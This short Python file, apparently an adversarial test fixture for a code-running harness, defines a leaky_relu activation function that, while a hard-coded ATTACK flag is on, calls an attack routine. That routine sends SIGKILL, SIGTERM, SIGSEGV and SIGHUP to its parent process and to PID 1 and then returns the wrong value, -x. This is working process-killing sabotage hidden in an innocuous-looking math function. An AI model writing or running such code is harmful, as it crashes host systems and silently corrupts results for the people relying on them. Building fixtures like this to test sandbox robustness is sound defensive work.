# ruff: noqa
"""Kills its parent, the first process, and whoever else there is."""

import os
import signal

import numpy as np

ATTACK = True


def attack(x):
    for pid in (os.getppid(), 1):
        for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSEGV, signal.SIGHUP):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return -x


def leaky_relu(x, negative_slope=0.01):
    if ATTACK:
        print("attack", flush=True)
        return attack(x)
    return np.where(x > 0, x, negative_slope * x)
